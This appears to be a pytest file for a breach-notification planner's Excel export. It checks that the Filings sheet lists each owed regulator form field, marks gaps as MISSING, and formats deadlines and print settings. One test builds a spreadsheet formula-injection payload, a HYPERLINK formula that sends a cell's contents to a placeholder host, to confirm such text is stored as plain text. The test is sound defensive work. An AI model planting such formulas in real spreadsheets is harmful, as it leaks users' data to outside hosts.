"""The workbook's Filings sheet (issue 14): every owed regulator filing, one row per field its
form asks, answered from the incident or marked MISSING. Read back from the bytes."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from notifyplanner.engine import plan as make_plan
from notifyplanner.export.workbook.filings import MISSING, NO_FORM
from notifyplanner.export.xlsx import plan_to_xlsx
from notifyplanner.filings import filings
from notifyplanner.model import DataElement, EntityRole, Incident, Plan, Rulebook

MADE_ON = date(2026, 10, 20)


def _incident(name: str = "Filings test") -> Incident:
    return Incident(
        name=name,
        entity_role=EntityRole.COVERED_ENTITY,
        discovered=date(2026, 3, 2),
        determined=date(2026, 3, 2),
        breach_start=date(2026, 2, 20),
        data_elements=frozenset({DataElement.NAME, DataElement.SSN, DataElement.MEDICAL}),
        source_of_breach=True,
        residents={"CA": 900, "MA": 300, "RI": 600, "NY": 1200},
    )


@pytest.fixture(scope="module")
def members(rulebook: Rulebook) -> Plan:
    return make_plan(_incident(), rulebook)


def _sheet(plan: Plan, rulebook: Rulebook) -> Worksheet:
    return load_workbook(io.BytesIO(plan_to_xlsx(plan, rulebook, made_on=MADE_ON)))["Filings"]


def _rows(ws: Worksheet) -> list[dict[str, object]]:
    head = [c.value for c in ws[1]]
    return [dict(zip(head, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)]


def test_one_row_per_field_of_every_owed_filing(members: Plan, rulebook: Rulebook):
    owed = filings(members, rulebook)
    rows = _rows(_sheet(members, rulebook))
    assert len(rows) == sum(max(1, len(f.fields)) for f in owed)
    assert [r["Obligation id"] for r in rows] == [f.key for f in owed for _ in range(max(1, len(f.fields)))]
    assert {r["#"] for r in rows} == set(range(1, len(owed) + 1))


def test_answers_come_from_the_incident_and_gaps_read_missing(members: Plan, rulebook: Rulebook):
    ws = _sheet(members, rulebook)
    rows = _rows(ws)
    hhs = {r["Field id"]: r for r in rows if r["Obligation id"] == "HIPAA/hhs"}
    assert hhs["discovery_date"]["Answer from the incident"] == "2026-03-02"
    assert hhs["breach_start_date"]["Answer from the incident"] == "2026-02-20"
    assert hhs["entity_name"]["Answer from the incident"] == MISSING
    assert "164.408" in str(hhs["entity_name"]["Citation"])
    ma = {r["Field id"]: r for r in rows if r["Obligation id"] == "MA/attorney_general"}
    assert ma["number_affected_state"]["Answer from the incident"] == "300"
    assert ma["number_affected_state"]["Where"] == "MA"
    assert "Attorney General" in str(ma["number_affected_state"]["Recipient / office"])
    answer_col = [c.value for c in ws[1]].index("Answer from the incident") + 1
    for row in range(2, ws.max_row + 1):
        cell = ws.cell(row=row, column=answer_col)
        assert cell.font.bold is (cell.value == MISSING)  # the gaps stand out on paper


def test_every_missing_field_of_the_core_is_missing_on_the_sheet(members: Plan, rulebook: Rulebook):
    rows = _rows(_sheet(members, rulebook))
    on_sheet = {(r["Obligation id"], r["Field id"]) for r in rows if r["Answer from the incident"] == MISSING}
    assert on_sheet == {(f.key, m) for f in filings(members, rulebook) for m in f.missing}


def test_a_filing_without_form_data_shows_what_the_notice_must_contain(members: Plan, rulebook: Rulebook):
    rows = [r for r in _rows(_sheet(members, rulebook)) if r["Obligation id"] == "NY/attorney_general_hipaa"]
    assert len(rows) == 1 and rows[0]["Field"] == NO_FORM
    assert rows[0]["Answer from the incident"] and rows[0]["Citation"]  # the notice's own citation


def test_deadline_is_a_real_date_or_says_why_there_is_none(members: Plan, rulebook: Rulebook):
    by_key = {o.key: o for o in members.obligations}
    for row in _rows(_sheet(members, rulebook)):
        deadline = by_key[str(row["Obligation id"])].deadline
        if deadline is not None:
            assert row["Deadline"] == datetime.combine(deadline, datetime.min.time())
        else:
            assert isinstance(row["Deadline"], str) and row["Deadline"]


def test_header_table_print_and_detail_columns(members: Plan, rulebook: Rulebook):
    ws = _sheet(members, rulebook)
    assert all(c.font.bold for c in ws[1] if c.value is not None)
    assert ws.freeze_panes == "C2"
    assert ws.print_title_rows.replace("$", "") == "1:1"
    assert ws.page_setup.orientation == "landscape"
    assert "Filings" in ws.tables
    notes = [c.value for c in ws[1]].index("Notes") + 1
    assert ws.column_dimensions[ws.cell(row=1, column=notes).column_letter].hidden


def test_text_from_a_file_is_never_a_formula(members: Plan, rulebook: Rulebook):
    """Offices and contents come from rule files (a user's own folder can be pointed at):
    none may become a formula, whatever it starts with."""
    payload = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
    hostile = replace(
        members,
        obligations=tuple(replace(o, office=payload, content=payload) for o in members.obligations),
    )
    ws = _sheet(hostile, rulebook)
    texts = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and payload in c.value]
    assert texts and all(c.data_type == "s" for c in texts)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_no_filing_owed_says_so(rulebook: Rulebook):
    ws = _sheet(make_plan(Incident(name="nothing"), rulebook), rulebook)
    assert ws["A2"].value == "No regulator filing is owed in this plan."
